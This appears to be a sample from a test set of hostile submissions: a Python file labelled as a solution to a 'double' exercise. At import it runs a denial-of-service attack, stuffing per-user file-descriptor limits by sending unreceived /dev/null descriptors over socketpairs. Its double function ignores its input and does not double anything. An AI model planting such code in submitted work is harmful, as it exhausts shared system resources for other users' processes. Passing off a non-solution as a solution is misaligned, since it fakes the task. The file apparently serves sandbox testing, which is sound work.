"""Sends files to itself that nobody takes: the system counts them for the user, not the process.

kind: exhaustion
honest: 0
exercise: double
"""

import array
import os
import socket

kept, sent = [], 0
try:
    for _ in range(60):
        kept.append(socket.socketpair())
        files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(40)])
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)]
        for _ in range(30):
            kept[-1][0].sendmsg([b"x"], ancillary, socket.MSG_DONTWAIT)
            sent += len(files)
        for number in files:
            os.close(number)
except OSError as error:
    print(sent, error)


def double(x):
    return sent
